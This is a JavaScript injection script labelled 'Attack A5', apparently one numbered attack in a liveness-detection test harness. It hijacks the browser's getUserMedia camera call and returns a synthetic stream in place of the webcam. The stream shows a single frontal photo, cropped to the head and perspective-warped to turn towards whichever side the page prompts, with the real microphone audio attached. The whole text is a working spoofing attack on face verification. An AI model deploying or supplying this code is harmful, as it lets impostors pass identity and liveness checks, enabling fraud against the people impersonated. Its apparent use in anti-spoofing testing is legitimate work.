// Attack A5: one frontal photo, cut out around the head and held in front
// of a still background, moved, rotated and perspective-warped towards the
// prompted side and back, smoothly, as a printed photo tilted in the hand
// would be: a flat picture made to look turned.
(() => {
  const opt = %OPTIONS%; // {src, keystone}
  const img = new Image();
  img.src = opt.src;
  const real = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);
  navigator.mediaDevices.getUserMedia = async (want) => {
    const canvas = document.createElement('canvas');
    canvas.width = 640;
    canvas.height = 480;
    const g = canvas.getContext('2d');
    const cut = document.createElement('canvas');
    let ready = false;
    let k = 0, last = performance.now();
    const t0 = last;
    const draw = () => {
      if (!img.complete || !img.naturalWidth) return;
      const H = 420, Wd = img.naturalWidth * H / img.naturalHeight;
      if (!ready) {
        ready = true;
        cut.width = Wd;
        cut.height = H;
        const c = cut.getContext('2d');
        c.beginPath();
        c.ellipse(Wd / 2, H * 0.52, Wd * 0.4, H * 0.47, 0, 0, 2 * Math.PI);
        c.clip();
        c.drawImage(img, 0, 0, Wd, H);
      }
      const now = performance.now(), dt = (now - last) / 1000;
      last = now;
      const prompt = (document.body && document.body.dataset.prompt) || 'center';
      // keystone > 0: the photo's right edge nearer the camera (taller).
      const goal = prompt === 'left' ? -opt.keystone : prompt === 'right' ? opt.keystone : 0;
      k += Math.max(-dt * 0.6, Math.min(dt * 0.6, goal - k));
      const tt = (now - t0) / 1000;
      g.fillStyle = '#55606b';
      g.fillRect(0, 0, 640, 480);
      g.fillStyle = '#6b5a48';
      g.fillRect(40, 300, 120, 180);
      g.fillStyle = '#c9c2b0';
      g.fillRect(500, 60, 100, 140);
      g.save();
      g.translate(320 + 8 * Math.sin(tt * 0.9), 240 + 5 * Math.sin(tt * 1.3));
      g.rotate(k * 0.3 + 0.02 * Math.sin(tt * 1.1));
      // Perspective of a plane turned about its vertical axis, in strips:
      // a strip at u (-0.5..0.5 of the width) is scaled by 1/(1 - 2 k u).
      const N = 80;
      const pos = (u) => (u * Wd * 0.95) / (1 - 2 * k * u);
      for (let i = 0; i < N; i++) {
        const u0 = i / N - 0.5, u1 = (i + 1) / N - 0.5, s = 1 / (1 - 2 * k * (u0 + u1) / 2);
        const x0 = pos(u0), x1 = pos(u1);
        g.drawImage(cut, (u0 + 0.5) * Wd, 0, Wd / N, H, x0, -H * s / 2, x1 - x0 + 0.5, H * s);
      }
      g.restore();
    };
    setInterval(draw, 66);
    const stream = canvas.captureStream(15);
    if (want && want.audio) {
      const mic = await real({ audio: true });
      for (const t of mic.getAudioTracks()) stream.addTrack(t);
    }
    return stream;
  };
})();
